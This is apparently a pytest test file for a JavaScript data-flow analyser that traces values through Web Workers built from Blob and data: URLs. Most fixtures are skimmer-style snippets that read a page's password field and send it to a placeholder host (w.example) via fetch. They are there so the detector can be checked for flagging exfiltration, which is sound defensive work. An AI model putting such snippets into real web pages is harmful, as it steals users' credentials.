"""Workers made of text: what is posted to them is followed into their code."""

from __future__ import annotations

import pytest
from flow_helper import decoded_flows_of, sends

from undertow.analysis import read_script
from undertow.analysis.columns import columns
from undertow.analysis.decode_workers import unfold_workers
from undertow.analysis.scopes import resolve

PW = "document.querySelector('input[type=password]').value"
BLOB = "new Worker(URL.createObjectURL(new Blob(["


@pytest.mark.parametrize(
    "made",
    [
        BLOB + "\"onmessage = (e) => fetch('https://w.example/?' + e.data.pw)\"])))",
        BLOB + "\"self.addEventListener('message', ({data}) => fetch('https://w.example/?' + data.pw))\"])))",
        BLOB + "'(' + body.toString() + ')()'])))",
        "new Worker('data:text/javascript,' + encodeURIComponent(\"onmessage=e=>fetch('https://w.example/?'+e.data.pw)\"))",
    ],
    ids=["blob", "listener", "function", "data-address"],
)
def test_what_is_posted_to_a_worker_is_sent_when_its_code_sends_it(made: str) -> None:
    body = "function body() { self.onmessage = (e) => fetch('https://w.example/?' + e.data.pw); }"
    posted = f"{body}; const w = {made}; w.postMessage({{pw: {PW}, ua: navigator.userAgent}});"
    assert sends(decoded_flows_of(posted.encode())) == {"password>w.example"}


@pytest.mark.parametrize(
    "code",
    ["onmessage = (e) => fetch('https://w.example/?' + e.data.kind)", "onmessage = (e) => postMessage(e.data.pw)"],
    ids=["another-field", "only-answers"],
)
def test_nothing_is_sent_when_the_worker_sends_something_else(code: str) -> None:
    posted = f'const w = {BLOB}"{code}"]))); w.postMessage({{pw: {PW}, kind: 1}});'
    assert sends(decoded_flows_of(posted.encode())) == set()


@pytest.mark.parametrize(("called", "found"), [("URL.createObjectURL", True), ("URL.revokeObjectURL", False)])
def test_an_address_is_seen_through_a_function_that_calls_what_it_is_given(called: str, found: bool) -> None:
    code = "onmessage = (e) => fetch('https://w.example/?' + e.data)"
    source = f'const q = {{c: (f, x) => f(x)}}; new Worker(q.c({called}, new Blob(["{code}"]))); postMessage(1)'
    c = columns(source.encode())
    assert (unfold_workers(c, resolve(c)) is not None) == found


def test_a_worker_hears_only_what_is_posted_to_it_when_there_are_two() -> None:
    one, two = (f"{BLOB}\"onmessage = (e) => fetch('https://{name}.example/?' + e.data)\"])))" for name in "ab")
    posted = f"const a = {one}, b = {two}; b.postMessage({PW}); a.postMessage('x');"
    assert sends(decoded_flows_of(posted.encode())) == {"password>b.example"}


def test_what_a_worker_answers_is_followed_when_the_page_sends_it() -> None:
    posted = (
        f"const w = {BLOB}'onmessage = (e) => postMessage(e.data)']))); w.postMessage({PW});"
        "w.onmessage = (e) => fetch('https://p.example/?' + e.data)"
    )
    assert sends(decoded_flows_of(posted.encode())) == {"password>p.example"}


def test_the_places_of_a_flow_are_those_of_the_script_as_delivered() -> None:
    source = f"const w = {BLOB}\"onmessage = (e) => fetch('https://w.example/?' + e.data)\"]))); w.postMessage({PW});"
    (flow,) = (f for f in read_script(source.encode()).flows if f.host == "w.example")
    assert source[slice(*flow.source_span)] == PW
    assert "Blob" in source[slice(*flow.sink_span)]


@pytest.mark.parametrize(
    "source",
    [
        "new Worker('/w.js').postMessage(1)",
        f"{BLOB}code]))).postMessage(1)",
        f"{BLOB}'not code ('])))" + ".postMessage(1)",
        "const Worker = own; " + BLOB + "'onmessage = 1'])))" + ".postMessage(1)",
    ],
    ids=["address", "unknown-text", "broken-code", "own-worker"],
)
def test_a_script_stays_as_it_is_when_the_code_of_its_worker_is_not_known(source: str) -> None:
    c = columns(source.encode())
    assert unfold_workers(c, resolve(c)) is None
